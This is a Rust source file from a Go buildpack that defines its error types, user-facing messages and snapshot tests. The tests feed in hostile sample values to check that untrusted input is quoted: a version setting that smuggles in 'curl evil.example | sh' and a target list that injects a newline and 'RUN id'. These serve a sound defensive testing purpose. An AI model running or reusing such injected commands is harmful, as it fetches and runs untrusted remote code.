//! This buildpack's errors and how they are shown: a header that says what failed, a body that
//! says why and what to do, the offending input quoted.

use crate::download::{InstallError, ProxyError};
use crate::flags::FlagError;
use crate::targets::{DetectError, TargetError};
use crate::version::RequestError;
use cnb_output::HeaderAndBody;
use std::path::PathBuf;
use untrusted_input::quoted;

/// Everything that can go wrong in this buildpack.
#[derive(Debug)]
pub(crate) enum GoAppError {
    // User errors: the app or its settings.
    /// `BP_GO_TARGETS` is invalid.
    Targets(TargetError),
    /// Nothing to build.
    NoTargets { has_go_mod: bool },
    /// A setting that is not one (`BP_GO_CGO=maybe`, a bad `BP_KEEP_FILES` glob).
    Setting {
        name: &'static str,
        value: String,
        expected: String,
    },
    /// `go.mod` cannot be read as one.
    GoMod(String),
    /// `go.mod` is not a regular file inside the app, or is too large.
    GoModFile(untrusted_input::ReadError),
    /// `BP_GO_VERSION` is not a version.
    VersionRequest(RequestError),
    /// The requested version is not in the inventory (and the build image's go does not fit).
    VersionNotAvailable {
        request: String,
        source: String,
        path_go: Option<String>,
        arch: String,
        available: Vec<String>,
    },
    /// `BP_GO_BUILD_FLAGS` cannot be used.
    Flags(FlagError),
    /// `GOPROXY` names no proxy.
    Proxy(ProxyError),
    /// A target needs cgo, which a static image cannot run.
    CgoRequired { files: Vec<PathBuf> },
    /// Two targets would make binaries of the same name, or a name is not a process type.
    BinaryName { target: String, reason: String },
    /// `go build` failed (its output was shown).
    GoBuild { target: String, code: Option<i32> },
    /// A binary is dynamically linked.
    NotStatic { detail: String, cgo: bool },

    // Environment errors: the build image, the network.
    /// The toolchain could not be downloaded, verified or extracted.
    Install(InstallError),
    /// A go command could not be run, or failed where it should not.
    GoCommand { command: String, cause: String },
    /// A file or directory of the app cannot be read.
    ReadApp {
        path: PathBuf,
        source: std::io::Error,
    },
    /// The app's sources cannot be removed.
    RemoveSources {
        path: PathBuf,
        source: std::io::Error,
    },

    // Internal errors: bugs of the buildpack.
    /// The embedded inventory is invalid.
    Inventory(String),
    /// The SBOM could not be made.
    Sbom(String),
}

impl HeaderAndBody for GoAppError {
    /// A one-line header saying what failed.
    fn header(&self) -> String {
        match self {
            Self::Targets(_) => "Invalid BP_GO_TARGETS".to_string(),
            Self::NoTargets { .. } => "No main package to build".to_string(),
            Self::Setting { name, .. } => format!("Invalid {name}"),
            Self::GoMod(_) => "Invalid go.mod".to_string(),
            Self::GoModFile(_) => "Cannot read go.mod".to_string(),
            Self::VersionRequest(_) => "Invalid Go version request".to_string(),
            Self::VersionNotAvailable { request, .. } => {
                format!("Go {request} is not available")
            }
            Self::Flags(error) => format!("Invalid {}", error.variable),
            Self::Proxy(_) => "No Go module proxy to download Go from".to_string(),
            Self::CgoRequired { .. } => {
                "The app needs cgo, which a static image cannot run".to_string()
            }
            Self::BinaryName { target, .. } => format!("Cannot name the binary of {target}"),
            Self::GoBuild { target, .. } => format!("go build failed for {target}"),
            Self::NotStatic { .. } => "A binary is not statically linked".to_string(),
            Self::Install(InstallError::ChecksumMismatch { .. }) => {
                "The downloaded Go toolchain does not match its checksum".to_string()
            }
            Self::Install(_) => "Cannot install the Go toolchain".to_string(),
            Self::GoCommand { command, .. } => format!("Cannot run {command}"),
            Self::ReadApp { path, .. } => format!("Cannot read {}", path.display()),
            Self::RemoveSources { path, .. } => format!("Cannot remove {}", path.display()),
            Self::Inventory(_) => "The buildpack's Go inventory is invalid".to_string(),
            Self::Sbom(_) => "Cannot write the SBOM".to_string(),
        }
    }

    /// The body: the cause and what to do.
    #[allow(clippy::too_many_lines)]
    fn body(&self) -> String {
        const BUG: &str = "This is a bug in the buildpack; please report it.";
        match self {
            Self::Targets(error) => format!(
                "{error}.\nBP_GO_TARGETS is a colon-separated list of directories relative to the \
                 app, each holding a main package, e.g. BP_GO_TARGETS=cmd/server:cmd/worker."
            ),
            Self::NoTargets { has_go_mod } => format!(
                "{}neither the app's root nor a directory cmd/<name>/ holds a main package \
                 (package main in a *.go file).\nSet BP_GO_TARGETS to the directories of the \
                 commands to build, e.g. BP_GO_TARGETS=./server.",
                if *has_go_mod {
                    "The app is a Go module (go.mod), but "
                } else {
                    ""
                }
            ),
            Self::Setting {
                name,
                value,
                expected,
            } => format!("{name}={}: {expected}.", quoted(value)),
            Self::GoMod(cause) => format!(
                "go.mod: {cause}.\nFix go.mod (`go mod edit -go=1.26 -toolchain=go1.26.8` writes \
                 valid lines), or set BP_GO_VERSION, which takes precedence."
            ),
            Self::GoModFile(error) => format!(
                "{error}.\ngo.mod must be a regular file inside the app (a link to one inside \
                 the app works) of at most {} MiB.",
                crate::gomod::MAX_SIZE >> 20
            ),
            Self::VersionRequest(error) => format!("{error}."),
            Self::VersionNotAvailable {
                request,
                source,
                path_go,
                arch,
                available,
            } => format!(
                "{source} asks for Go {request}; {}and this buildpack installs only the versions \
                 it knows the checksum of. For linux/{arch} these are: {}.\nSet BP_GO_VERSION \
                 to one of them (or change {source}), or use a build image whose go is {request}.",
                match path_go {
                    Some(version) => format!("the go on PATH is {version}, "),
                    None => "there is no go on PATH, ".to_string(),
                },
                if available.is_empty() {
                    "none".to_string()
                } else {
                    available.join(", ")
                }
            ),
            Self::Flags(error) => format!("{error}."),
            Self::Proxy(error) => format!(
                "{error}.\nThe buildpack downloads Go toolchains (module golang.org/toolchain) \
                 from the first proxy URL of GOPROXY, as the go command does."
            ),
            Self::CgoRequired { files } => format!(
                "These files import \"C\" without a `cgo` build constraint:\n{}\nA cgo binary links \
                 the C library dynamically (and needs a C toolchain to build), but the static run \
                 image has no libc and no dynamic loader, so it could not start there.\nRemove \
                 the cgo code (or guard it with //go:build cgo and add a !cgo fallback), use a \
                 run image with libc (Paketo's base or full stack), or, if the C code can be \
                 linked statically, set BP_GO_CGO=true and BP_GO_BUILD_LDFLAGS=\"-linkmode=external \
                 -extldflags=-static\" (the buildpack still checks that the binary is static).",
                files
                    .iter()
                    .map(|file| format!("  {}", file.display()))
                    .collect::<Vec<_>>()
                    .join("\n")
            ),
            Self::BinaryName { reason, .. } => format!(
                "{reason}.\nEach target's binary is named after its directory and becomes the \
                 process type of that name; choose targets with distinct names (letters, digits, \
                 '.', '_', '-') in BP_GO_TARGETS."
            ),
            Self::GoBuild { code, .. } => format!(
                "go build exited with {} (its output is above).\nFix the build error; to try the \
                 same build locally: CGO_ENABLED=0 go build -buildmode=exe -trimpath <target>.",
                code.map_or_else(|| "a signal".to_string(), |code| format!("code {code}"))
            ),
            Self::NotStatic { detail, cgo } => format!(
                "{detail}.\nThe static run image has no dynamic loader and no libc: only a \
                 statically linked binary starts there.\n{}",
                if *cgo {
                    "With BP_GO_CGO=true, link statically: BP_GO_BUILD_LDFLAGS=\"-linkmode=external \
                     -extldflags=-static\" (the C libraries must have static archives), or build \
                     without cgo (unset BP_GO_CGO)."
                } else {
                    "Remove the flags of BP_GO_BUILD_FLAGS / BP_GO_BUILD_LDFLAGS that make it \
                     dynamic (such as -linkmode=external)."
                }
            ),
            Self::Install(error @ InstallError::ChecksumMismatch { .. }) => format!(
                "{error}.\nNothing was extracted. The proxy served different bytes than the \
                 toolchain this buildpack was released with: check GOPROXY (a mirror must serve \
                 golang.org/toolchain unmodified) and try again; the download is not retried."
            ),
            Self::Install(InstallError::Fetch(error)) => format!(
                "{error}.\nCheck the network access of the build and GOPROXY (set it to a \
                 reachable mirror of proxy.golang.org), or use a build image whose go fits the \
                 app."
            ),
            Self::Install(error @ InstallError::Extract { .. }) => {
                format!(
                    "{error}.\nThe zip matched its checksum, so this is likely a full disk or a bug."
                )
            }
            Self::GoCommand { cause, .. } => cause.clone(),
            Self::ReadApp { source, .. } | Self::RemoveSources { source, .. } => {
                format!("{source}.\nCheck the file's permissions.")
            }
            Self::Inventory(cause) | Self::Sbom(cause) => format!("{cause}.\n{BUG}"),
        }
    }
}

cnb_output::libcnb_buildpack_error!(GoAppError);

impl From<DetectError> for GoAppError {
    fn from(error: DetectError) -> Self {
        match error {
            DetectError::Target(error) => Self::Targets(error),
            DetectError::Read { path, source } => Self::ReadApp { path, source },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn version_not_available_lists_the_inventory() {
        let error = GoAppError::VersionNotAvailable {
            request: "1.26.9".to_string(),
            source: "BP_GO_VERSION".to_string(),
            path_go: Some("1.26.8".to_string()),
            arch: "amd64".to_string(),
            available: vec!["1.27.3".to_string(), "1.26.10".to_string()],
        };
        assert_eq!(error.header(), "Go 1.26.9 is not available");
        assert_eq!(
            error.body(),
            "BP_GO_VERSION asks for Go 1.26.9; the go on PATH is 1.26.8, and this buildpack \
             installs only the versions it knows the checksum of. For linux/amd64 these are: \
             1.27.3, 1.26.10.\nSet BP_GO_VERSION to one of them (or change BP_GO_VERSION), or use \
             a build image whose go is 1.26.9."
        );
    }

    #[test]
    fn cgo_required_says_why_and_what_to_do() {
        let error = GoAppError::CgoRequired {
            files: vec![PathBuf::from("main.go")],
        };
        assert_eq!(
            error.header(),
            "The app needs cgo, which a static image cannot run"
        );
        let body = error.body();
        assert!(body.starts_with(
            "These files import \"C\" without a `cgo` build constraint:\n  main.go\nA cgo binary \
             links the C library dynamically"
        ));
        assert!(body.contains("set BP_GO_CGO=true"));
    }

    #[test]
    fn a_checksum_mismatch_says_nothing_was_extracted() {
        let error = GoAppError::Install(InstallError::ChecksumMismatch {
            url: "https://proxy/x.zip".to_string(),
            expected: crate::inventory::Sha256::parse(&"a".repeat(64)).unwrap(),
            actual: "b".repeat(64),
        });
        assert_eq!(
            error.header(),
            "The downloaded Go toolchain does not match its checksum"
        );
        assert!(error.body().starts_with(&format!(
            "https://proxy/x.zip: SHA-256 {}, expected {} (the buildpack's inventory).\nNothing \
             was extracted.",
            "b".repeat(64),
            "a".repeat(64)
        )));
    }

    /// Every error as the user sees it, one snapshot per variant (`src/snapshots/`), with
    /// realistic inputs; hostile ones quoted short.
    #[test]
    #[allow(clippy::too_many_lines)] // one entry per error
    fn messages() {
        use crate::download::FetchError;
        use crate::inventory::Sha256;
        use crate::version::RequestSource;
        use untrusted_input::{ReadError, ReadErrorKind};
        let url =
            "https://proxy.golang.org/golang.org/toolchain/@v/v0.0.1-go1.25.14.linux-amd64.zip";
        let errors = [
            (
                "targets",
                GoAppError::Targets(TargetError {
                    value: "cmd/a:/etc\nRUN id".to_string(),
                    entry: "/etc\nRUN id".to_string(),
                    reason: "must be a path relative to the app root",
                }),
            ),
            ("no_targets", GoAppError::NoTargets { has_go_mod: true }),
            (
                "no_targets_no_go_mod",
                GoAppError::NoTargets { has_go_mod: false },
            ),
            (
                "setting",
                GoAppError::Setting {
                    name: "BP_GO_CGO",
                    value: format!("maybe{}", "?".repeat(100)),
                    expected: "true or false".to_string(),
                },
            ),
            (
                "go_mod",
                GoAppError::GoMod("line 3: unknown directive \"gō\"".to_string()),
            ),
            (
                "go_mod_file",
                GoAppError::GoModFile(ReadError {
                    path: PathBuf::from("/workspace/go.mod"),
                    kind: ReadErrorKind::OutsideApp,
                }),
            ),
            (
                "version_request",
                GoAppError::VersionRequest(RequestError {
                    source: RequestSource::BpGoVersion,
                    value: "1.26; curl evil.example | sh".to_string(),
                }),
            ),
            (
                "version_not_available",
                GoAppError::VersionNotAvailable {
                    request: "1.26.9".to_string(),
                    source: "BP_GO_VERSION".to_string(),
                    path_go: None,
                    arch: "amd64".to_string(),
                    available: vec!["1.26.10".to_string(), "1.25.14".to_string()],
                },
            ),
            (
                "flags",
                GoAppError::Flags(FlagError {
                    variable: "BP_GO_BUILD_FLAGS",
                    value: "-buildmode=pie".to_string(),
                    reason: "a static image runs only -buildmode=exe binaries".to_string(),
                }),
            ),
            (
                "proxy",
                GoAppError::Proxy(ProxyError {
                    value: "off".to_string(),
                    reason: "it names no proxy to download Go from".to_string(),
                }),
            ),
            (
                "cgo_required",
                GoAppError::CgoRequired {
                    files: vec![PathBuf::from("cmd/server/sqlite.go")],
                },
            ),
            (
                "binary_name",
                GoAppError::BinaryName {
                    target: "./cmd/web".to_string(),
                    reason: "./web makes a binary named web too".to_string(),
                },
            ),
            (
                "go_build",
                GoAppError::GoBuild {
                    target: "./cmd/web".to_string(),
                    code: Some(1),
                },
            ),
            (
                "not_static",
                GoAppError::NotStatic {
                    detail: "web is dynamically linked (program interpreter \
                             /lib64/ld-linux-x86-64.so.2)"
                        .to_string(),
                    cgo: false,
                },
            ),
            (
                "install_fetch",
                GoAppError::Install(InstallError::Fetch(FetchError {
                    url: url.to_string(),
                    message: "HTTP 503".to_string(),
                    attempts: 3,
                })),
            ),
            (
                "install_checksum_mismatch",
                GoAppError::Install(InstallError::ChecksumMismatch {
                    url: url.to_string(),
                    expected: Sha256::parse(&"a".repeat(64)).unwrap(),
                    actual: "b".repeat(64),
                }),
            ),
            (
                "install_extract",
                GoAppError::Install(InstallError::Extract {
                    url: url.to_string(),
                    message: "go/bin/go is missing from the archive".to_string(),
                }),
            ),
            (
                "go_command",
                GoAppError::GoCommand {
                    command: "go env GOVERSION".to_string(),
                    cause: "exit status: 2".to_string(),
                },
            ),
            (
                "read_app",
                GoAppError::ReadApp {
                    path: PathBuf::from("/workspace/cmd"),
                    source: std::io::Error::from(std::io::ErrorKind::PermissionDenied),
                },
            ),
            (
                "remove_sources",
                GoAppError::RemoveSources {
                    path: PathBuf::from("/workspace/main.go"),
                    source: std::io::Error::from(std::io::ErrorKind::PermissionDenied),
                },
            ),
            (
                "inventory",
                GoAppError::Inventory("line 4: missing field `sha256`".to_string()),
            ),
            (
                "sbom",
                GoAppError::Sbom("go version -m printed no build information".to_string()),
            ),
        ];
        for (name, error) in errors {
            insta::assert_snapshot!(name, cnb_output::render_error(&error));
        }
    }
}
